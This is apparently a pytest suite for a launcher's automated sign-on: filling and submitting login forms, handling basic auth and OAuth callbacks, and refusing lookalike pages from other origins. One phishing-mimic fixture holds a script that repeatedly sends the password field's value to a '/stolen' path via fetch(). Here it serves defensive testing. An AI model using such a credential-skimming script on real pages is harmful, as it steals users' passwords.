"""Signing on to real pages: looking, filling, pressing, and what must never be filled."""

from __future__ import annotations

import contextlib
import threading
from collections.abc import Callable

import pytest

from launcher.recipes.steps import Place
from launcher.secret import Secret
from launcher.shell.surfaces.faults import SignOnNotExpectedError
from launcher.shell.surfaces.page import PARTS_WITHIN_S
from launcher.sign_on.driver import FieldFault, WrongOriginError
from launcher.sign_on.run import LOOK_GRACE_S
from tests.shell.surfaces.conftest import Desk
from tests.shell.surfaces.site import Answer, Request, Site, to

pytestmark = pytest.mark.usefixtures("qapp")

LOGON = """<title>Log on</title><form method=post action=/logon>
<input name=user id=user><input type=password name=pass id=pass><button id=go>Log on</button></form>"""
PASSWORD = Secret('Ünter "quoted" \\ </script> £ 🚓')


def logon_of(site: Site) -> dict[str, str]:
    return next(request for request in site.asked if request.method == "POST").form


def test_a_form_is_filled_pressed_and_expected(desk: Desk, site: Site) -> None:
    def answer(request: Request) -> Answer | str:
        return to(site["/home"], 303) if request.form["pass"] == PASSWORD.reveal() else LOGON

    site.pages |= {"/": LOGON, "/logon": answer, "/home": "<h1>Welcome back</h1>"}
    page = desk.open(site["/"], site.origin)
    desk.run(page.load(site["/"]))
    desk.run(page.fill("#user", Secret("4471")))
    desk.run(page.fill("#pass", PASSWORD, hides=True))
    desk.run(page.press("#go", ""))
    seen = desk.run(page.first_of([Place(text="never"), Place(selector="h1", text="Welcome back")], 10.0))
    assert seen is not None
    assert seen.index == 1
    assert logon_of(site) == {"user": "4471", "pass": PASSWORD.reveal()}
    assert all(PASSWORD.reveal() not in request.query for request in site.asked)
    assert page.officer_acts() == 0
    assert desk.run(desk.surfaces.edited()) == ()


@pytest.mark.parametrize(("slow_s", "early"), [(0.5, False), (30.0, True)])
def test_a_press_waits_for_the_parts_of_the_page_but_not_for_ever(
    desk: Desk, site: Site, slow_s: float, early: bool
) -> None:
    """DokuWiki takes a picture that is asked for with the cookies of before the logon for a log-off."""
    sent = threading.Event()
    came_first: list[bool] = []

    def picture(request: Request) -> Answer:
        came_first.append(sent.wait(slow_s))
        return Answer(status=404)

    def logon(request: Request) -> str:
        sent.set()
        return "<p>in</p>"

    site.pages |= {"/": LOGON + "<img src=/picture>", "/picture": picture, "/logon": logon}
    page = desk.open(site["/"], site.origin)
    desk.run(page.load(site["/"]))
    desk.run(page.fill("#user", Secret("4471")))
    desk.run(page.press("#go", ""))
    assert desk.run(page.first_of([Place(text="in")], 20.0)) is not None
    desk.until(lambda: came_first)  # the page may be seen before the thread of the picture goes on
    assert came_first == [early]
    assert site.paths().count("/logon") == 1


@pytest.mark.parametrize("tab", [False, True])
def test_a_page_that_is_replaced_while_the_press_waits_is_not_sent(
    desk: Desk, site: Site, monkeypatch: pytest.MonkeyPatch, tab: bool
) -> None:
    """The form of the page that came is empty, and the refusal of an empty password would be held against the kept."""
    monkeypatch.setattr("launcher.shell.surfaces.page.PARTS_WITHIN_S", 60.0)
    over, pressing = threading.Event(), threading.Event()

    def picture(request: Request) -> Answer:
        over.wait()
        return Answer(status=404)

    def moment(request: Request) -> str:
        pressing.wait()
        return ""

    moves = "<script>fetch('/moment').then(() => location.replace('/second'))</script>"
    site.pages |= {"/": LOGON + moves + "<img src=/picture>", "/picture": picture, "/moment": moment}
    site.pages |= {"/second": LOGON, "/logon": "<p>refused</p>"}
    page = desk.open(site["/"], site.origin)
    desk.run(page.load(site["/"]))
    try:
        desk.run(page.fill("#user", Secret("4471")))
        desk.run(page.fill("#pass", PASSWORD, hides=True))
        if tab:
            monkeypatch.setattr("launcher.shell.surfaces.page.PARTS_WITHIN_S", 0.1)
            desk.run(page.press("", "Tab"))
            monkeypatch.setattr("launcher.shell.surfaces.page.PARTS_WITHIN_S", 60.0)
            pressing.set()
            assert desk.run(page.first_of([Place(url=site["/second"], selector="#go")], 20.0)) is not None
        pressed = desk.start(page.press("#go", ""))
        pressing.set()
        if tab:
            with pytest.raises(FieldFault, match="was replaced"):
                desk.run_future(pressed)
        else:
            # As the page goes, the engine may have no answer, or the filled form be sent still.
            with contextlib.suppress(FieldFault):
                desk.run_future(pressed)
        assert desk.run(page.first_of([Place(url=site["/second"]), Place(url=site["/logon"])], 20.0)) is not None
        sent = [request.form for request in site.asked if request.method != "GET"]
        assert sent in ([], [{"user": "4471", "pass": PASSWORD.reveal()}])
        assert not (tab and sent)
    finally:
        over.set()
        pressing.set()


def test_a_press_of_ours_may_lead_to_another_page_and_a_press_there(desk: Desk, site: Site) -> None:
    site.pages |= {"/": LOGON, "/logon": "<form method=post action=/yes><button id=yes>Stay</button></form>"}
    site.pages["/yes"] = "<p>in</p>"
    page = desk.open(site["/"], site.origin)
    desk.run(page.load(site["/"]))
    desk.run(page.fill("#pass", PASSWORD, hides=True))
    desk.run(page.press("#go", ""))
    assert desk.run(page.first_of([Place(selector="#yes")], 10.0)) is not None
    desk.run(page.press("#yes", ""))
    assert desk.run(page.first_of([Place(text="in")], 10.0)) is not None


def test_parts_that_never_come_are_waited_for_once(desk: Desk, site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    over = threading.Event()

    def picture(request: Request) -> Answer:
        over.wait()
        return Answer(status=404)

    site.pages |= {"/": LOGON + "<button id=more>More</button><img src=/picture>", "/picture": picture}
    site.pages["/logon"] = "<p>in</p>"
    page = desk.open(site["/"], site.origin)
    desk.run(page.load(site["/"]))
    try:
        monkeypatch.setattr("launcher.shell.surfaces.page.PARTS_WITHIN_S", 0.3)
        desk.run(page.press("#more", ""))
        monkeypatch.setattr("launcher.shell.surfaces.page.PARTS_WITHIN_S", 3600.0)
        desk.run(page.press("#go", ""))
        assert desk.run(page.first_of([Place(text="in")], 10.0)) is not None
    finally:
        over.set()


def test_a_press_waits_less_for_parts_than_the_engine_waits_for_the_press() -> None:
    assert PARTS_WITHIN_S < LOOK_GRACE_S


def test_enter_sends_the_form_by_its_own_button(desk: Desk, site: Site) -> None:
    site.pages |= {
        "/": LOGON.replace("<button id=go>", "<button name=how value=button>"),
        "/logon": "<p>in</p>",
    }
    page = desk.open(site["/"], site.origin)
    desk.run(page.load(site["/"]))
    desk.run(page.fill("#user", Secret("a")))
    desk.run(page.press("", "Tab"))
    desk.run(page.fill("#pass", Secret("b")))
    desk.run(page.press("", "Enter"))
    assert desk.run(page.first_of([Place(text="in")], 10.0)) is not None
    assert logon_of(site) == {"user": "a", "pass": "b", "how": "button"}


def test_a_page_that_listens_for_keys_and_input_events_sees_them(desk: Desk, site: Site) -> None:
    site.pages |= {
        "/": """<input id=f><p id=out></p><script>
        const f = document.getElementById('f'); const heard = [];
        for (const kind of ['input', 'change', 'keydown', 'keyup']) f.addEventListener(kind, (e) => {
          heard.push(kind + (e.key ?? '')); document.getElementById('out').textContent = heard.join(' ') + f.value; });
        </script>"""
    }
    page = desk.open(site["/"], site.origin)
    desk.run(page.load(site["/"]))
    desk.run(page.fill("#f", Secret("x")))
    desk.run(page.press("", "Enter"))
    assert desk.run(page.first_of([Place(text="input change keydownEnter keyupEnterx")], 5.0)) is not None


def test_a_page_that_overrides_the_value_property_cannot_see_more_or_less(desk: Desk, site: Site) -> None:
    site.pages["/"] = """<input id=f type=password><p id=out>-</p><script>
        const f = document.getElementById('f');
        Object.defineProperty(f, 'value', { get: () => 'fake', set: () => { throw 1 } });
        document.querySelector = document.querySelectorAll = () => { throw 2 };
        f.addEventListener('input', () => {
          document.getElementById('out').textContent = f.matches(':placeholder-shown') ? 'empty' : 'written'; });
        </script>"""
    page = desk.open(site["/"], site.origin)
    desk.run(page.load(site["/"]))
    desk.run(page.fill("#f", Secret("x"), hides=True))
    assert desk.run(page.first_of([Place(text="written")], 5.0)) is not None


def test_a_form_built_late_is_waited_for(desk: Desk, site: Site) -> None:
    site.pages["/"] = f"""<p>loading</p><script>setTimeout(() => {{ document.body.innerHTML = `{LOGON}`;
        document.getElementById('pass').disabled = true;
        setTimeout(() => document.getElementById('pass').disabled = false, 80); }}, 80)</script>"""
    site.pages["/logon"] = "<p>in</p>"
    page = desk.open(site["/"], site.origin)
    desk.run(page.load(site["/"]))
    desk.run(page.fill("#user", Secret("a")))
    desk.run(page.fill("#pass", Secret("b"), hides=True))
    desk.run(page.press("#go", ""))
    assert desk.run(page.first_of([Place(text="in")], 10.0)) is not None


def test_a_page_that_replaces_its_form_while_it_is_filled_is_filled_again(desk: Desk, site: Site) -> None:
    site.pages["/"] = f"""<div id=root>{LOGON}</div><script>
        let times = 0;
        document.addEventListener('input', (e) => {{ if (e.target.id === 'pass' && times++ < 2) {{
            const root = document.getElementById('root'); root.innerHTML = root.innerHTML; }} }});
        </script>"""
    site.pages["/logon"] = "<p>in</p>"
    page = desk.open(site["/"], site.origin)
    desk.run(page.load(site["/"]))
    desk.run(page.fill("#pass", Secret("b"), hides=True))
    desk.run(page.press("#go", ""))
    assert desk.run(page.first_of([Place(text="in")], 10.0)) is not None
    assert logon_of(site)["pass"] == "b"


def test_a_page_that_empties_a_field_later_is_not_sent(desk: Desk, site: Site) -> None:
    """An empty password sent for a person is a failure counted against them."""
    site.pages["/"] = f"""{LOGON}<script>
        document.addEventListener('change', (e) => setTimeout(() => {{ e.target.value = '';
          document.title = 'emptied'; }}, 0)); </script>"""
    page = desk.open(site["/"], site.origin)
    desk.run(page.load(site["/"]))
    desk.run(page.fill("#pass", Secret("b"), hides=True))
    desk.until(lambda: "emptied" in page.last_seen())
    with pytest.raises(FieldFault, match="did not keep its value"):
        desk.run(page.press("#go", ""))
    assert all(request.method == "GET" for request in site.asked)


@pytest.mark.parametrize(
    ("field", "says"),
    [
        ("<p>none</p>", "is not on the page"),
        ("<input id=f type=password style='display:none'>", "is not visible"),
        ("<div style='visibility:hidden'><input id=f type=password></div>", "is not visible"),
        ("<input id=f type=password style='position:absolute;width:0;height:0;border:0;padding:0'>", "is not visible"),
        ("<input id=f type=password disabled>", "cannot be used"),
        ("<fieldset disabled><input id=f type=password></fieldset>", "cannot be used"),
        ("<input id=f type=password readonly>", "cannot be used"),
        ("<input id=f type=hidden>", "is not visible"),
        ("<input id=f type=file>", "is not a field to type into"),
        ("<div id=f contenteditable>x</div>", "is not a field to type into"),
        ("<input id=f type=text>", "would show what is typed"),
        ("<textarea id=f></textarea>", "would show what is typed"),
        ("<input id=f type=password oninput='this.value=1'>", "did not keep its value"),
    ],
)
def test_a_field_that_cannot_take_a_password_gets_none(
    desk: Desk, site: Site, field: str, says: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("launcher.shell.surfaces.page.FILL_WITHIN_S", 0.3)
    site.pages["/"] = field
    page = desk.open(site["/"], site.origin)
    desk.run(page.load(site["/"]))
    with pytest.raises(FieldFault, match=says) as caught:
        desk.run(page.fill("#f", Secret("hunter2"), hides=True))
    assert "hunter2" not in repr(caught.value.args) + caught.value.detail


def test_a_select_takes_a_value_or_a_label(desk: Desk, site: Site) -> None:
    site.pages["/"] = """<select id=f onchange="document.title='chose '+this.value">
        <option value=''><option value=n>North Area<option value=s>South Area</select>"""
    page = desk.open(site["/"], site.origin)
    desk.run(page.load(site["/"]))
    desk.run(page.fill("#f", Secret("South Area")))
    desk.until(lambda: "chose s" in page.last_seen())


def test_a_page_of_another_origin_that_looks_like_the_logon_gets_nothing(
    desk: Desk, site: Site, new_site: Callable[[], Site]
) -> None:
    mimic = new_site()
    mimic.pages |= {"/": LOGON, "/logon": "thanks"}
    site.pages["/"] = to(mimic["/"])
    page = desk.open(site["/"], site.origin, visits=(mimic.origin,))  # it may even be visited
    desk.run(page.load(site["/"]))
    assert desk.run(page.first_of([Place(selector="#pass")], 5.0)) is not None
    with pytest.raises(WrongOriginError):
        desk.run(page.fill("#pass", Secret("hunter2"), hides=True))
    assert all("hunter2" not in str(request) for request in mimic.asked)


def test_a_mimic_in_a_frame_gets_nothing(
    desk: Desk, site: Site, new_site: Callable[[], Site], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("launcher.shell.surfaces.page.FILL_WITHIN_S", 0.3)
    mimic = new_site()
    mimic.pages["/"] = LOGON + "<script>parent.postMessage('here', '*')</script>"
    site.pages["/"] = f"""<script>addEventListener('message', () => document.title = 'framed')</script>
        <iframe src='{mimic["/"]}'></iframe>"""
    page = desk.open(site["/"], site.origin)
    desk.run(page.load(site["/"]))
    desk.until(lambda: "framed" in page.last_seen())
    with pytest.raises(FieldFault, match="is not on the page"):
        desk.run(page.fill("#pass", Secret("hunter2"), hides=True))


def test_a_page_that_moves_between_look_and_fill_gets_nothing(
    desk: Desk, site: Site, new_site: Callable[[], Site]
) -> None:
    """Round after round the page goes elsewhere at another moment; only its own origin is ever filled."""
    mimic = new_site()
    mimic.pages |= {
        "/": LOGON + "<script>setInterval(() => fetch('/stolen?' + document.getElementById('pass').value), 5)</script>"
    }
    refused = 0
    page = desk.open(site["/"], site.origin, visits=(mimic.origin,))
    for moment in (0, 1, 2, 4, 8, 16, 32):
        site.pages["/"] = LOGON + f"<script>setTimeout(() => location = '{mimic['/']}', {moment})</script>"
        desk.run(page.load(site["/"]))
        desk.run(page.first_of([Place(selector="#pass")], 5.0))
        try:
            for _ in range(20):
                desk.run(page.fill("#pass", Secret("hunter2"), hides=True))
        except WrongOriginError:
            refused += 1
    assert refused > 0
    assert all("hunter2" not in request.query for request in mimic.asked)


def test_markers_of_the_address_are_compared_with_the_real_one(desk: Desk, site: Site) -> None:
    site.pages |= {"/": "<script>history.pushState(0, '', '/deep/page?x=1')</script>", "/other": "x"}
    page = desk.open(site["/"], site.origin)
    desk.run(page.load(site["/"]))
    host = site.origin.removeprefix("http://")
    places = [
        Place(url=f"http://{host.split(':')[0]}"),  # another origin, though the address starts with it
        Place(url=site["/other"]),
        Place(url=site["/deep/"], text="absent"),
        Place(url=site["/deep/"]),
    ]
    seen = desk.run(page.first_of(places, 5.0))
    assert seen is not None
    assert seen.index == 3


def test_the_lowest_of_several_places_is_named(desk: Desk, site: Site) -> None:
    site.pages["/"] = "<p id=a>alpha</p><p id=b>beta <b style='display:none'>hidden word</b></p>"
    page = desk.open(site["/"], site.origin)
    desk.run(page.load(site["/"]))
    places = [Place(text="hidden word"), Place(selector=":::"), Place(selector="#b", text="beta"), Place(text="alpha")]
    seen = desk.run(page.first_of(places, 5.0))
    assert seen is not None
    assert seen.index == 2


def test_what_appears_by_a_style_alone_is_seen(desk: Desk, site: Site) -> None:
    site.pages["/"] = """<style>#m { display: none } @media (min-width: 1px) { .x #m { display: block } }</style>
        <div><p id=m>now visible</p></div>
        <script>setTimeout(() => document.querySelector('div').className = 'x', 60)</script>"""
    page = desk.open(site["/"], site.origin)
    desk.run(page.load(site["/"]))
    assert desk.run(page.first_of([Place(selector="#m")], 10.0)) is not None


def test_nothing_seen_by_the_deadline_is_none(desk: Desk, site: Site) -> None:
    site.pages["/"] = "<p>x</p><script>setInterval(() => document.body.dataset.n = Math.random(), 1)</script>"
    page = desk.open(site["/"], site.origin)
    desk.run(page.load(site["/"]))
    assert desk.run(page.first_of([Place(text="never")], 0.3)) is None


def test_a_page_out_of_sight_runs_at_full_speed_while_it_is_signed_on(desk: Desk, site: Site) -> None:
    """A hidden page draws no frames and its clocks turn once a second: one that waits for frames would never come."""
    site.pages["/"] = """<p id=n></p><script>let n = 0; const step = () => {
        document.getElementById('n').textContent = 'frame ' + ++n; if (n < 20) requestAnimationFrame(step) };
        requestAnimationFrame(step)</script>"""
    page = desk.open(site["/"], site.origin)
    desk.run(page.load(site["/"]))
    assert desk.run(page.first_of([Place(text="frame 20")], 10.0)) is not None


def test_the_page_cannot_hear_that_it_is_watched_nor_wake_us_itself(desk: Desk, site: Site) -> None:
    site.pages["/"] = """<script>const seen = [];
        for (const name of ['log', 'debug', 'info']) console[name] = (...all) => seen.push(all);
        setTimeout(() => { document.title = 'heard ' + seen.length + ' ' + typeof stationWorld }, 50);</script>"""
    page = desk.open(site["/"], site.origin)
    desk.run(page.load(site["/"]))
    desk.until(lambda: "heard" in page.last_seen())
    assert "heard 0 undefined" in page.last_seen()


# --- basic


def guarded(request: Request) -> Answer | str:
    if request.basic() == ("4471", "right"):
        return "<p>inside</p>"
    return Answer("<p>outside</p>", 401, (("WWW-Authenticate", 'Basic realm="x"'),))


def test_basic_is_answered_once(desk: Desk, site: Site) -> None:
    site.pages["/"] = guarded
    page = desk.open(site["/"], site.origin)
    page.answer_basic("4471", Secret("right"))
    desk.run(page.load(site["/"]))
    assert desk.run(page.first_of([Place(text="inside")], 5.0)) is not None
    assert not page.basic_refused()


def test_a_wrong_basic_password_is_sent_once_and_reported(desk: Desk, site: Site) -> None:
    site.pages["/"] = guarded
    page = desk.open(site["/"], site.origin)
    page.answer_basic("4471", Secret("wrong"))
    desk.run(page.load(site["/"]))
    assert page.basic_refused()
    sent = [request.basic() for request in site.asked if request.basic() is not None]
    assert sent.count(("4471", "wrong")) == 1


def test_basic_is_not_answered_on_another_origin(desk: Desk, site: Site, new_site: Callable[[], Site]) -> None:
    other = new_site()
    other.pages["/"] = guarded
    site.pages["/"] = f"<img src='{other['/']}' onerror=\"document.title = 'refused'\"><p>page</p>"
    page = desk.open(site["/"], site.origin, visits=(other.origin,))
    page.answer_basic("4471", Secret("right"))
    with contextlib.suppress(SignOnNotExpectedError):  # the document may have been there before its picture asked
        desk.run(page.load(site["/"]))
    desk.until(lambda: other.asked)
    desk.until(lambda: "refused" in page.last_seen())
    assert {request.basic() for request in other.asked} <= {None, ("", "")}


# --- the sign-in's callback


@pytest.mark.parametrize("status", [302, 303, 307])
def test_the_callback_is_caught_and_not_carried_out(
    desk: Desk, site: Site, new_site: Callable[[], Site], status: int
) -> None:
    home = new_site()
    site.pages["/authorize"] = to(home["/callback?code=abc&state=s"], status)
    page = desk.open(site["/authorize"], site.origin)
    caught = desk.start(page.callback(home["/callback"], 10.0))
    desk.run(page.load(site["/authorize"]))
    assert desk.run_future(caught) == home["/callback?code=abc&state=s"]
    assert home.asked == []


def test_the_callback_after_a_posted_form_is_caught(desk: Desk, site: Site, new_site: Callable[[], Site]) -> None:
    home = new_site()
    site.pages |= {"/authorize": LOGON, "/logon": to(home["/callback?code=abc"])}
    page = desk.open(site["/authorize"], site.origin)
    caught = desk.start(page.callback(home["/callback"], 10.0))
    desk.run(page.load(site["/authorize"]))
    desk.run(page.fill("#pass", Secret("b"), hides=True))
    desk.run(page.press("#go", ""))
    assert desk.run_future(caught) == home["/callback?code=abc"]
    assert home.asked == []


def test_a_callback_asked_for_after_the_load_is_found(desk: Desk, site: Site, new_site: Callable[[], Site]) -> None:
    home = new_site()
    site.pages["/authorize"] = to(home["/callback?code=abc"])
    page = desk.open(site["/authorize"], site.origin)
    with pytest.raises(WrongOriginError):
        desk.run(page.load(site["/authorize"]))
    assert desk.run(page.callback(home["/callback"], 10.0)) == home["/callback?code=abc"]


def test_a_callback_that_does_not_come_is_none(desk: Desk, site: Site) -> None:
    site.pages["/"] = "x"
    page = desk.open(site["/"], site.origin)
    desk.run(page.load(site["/"]))
    assert desk.run(page.callback("https://localhost/callback", 0.1)) is None
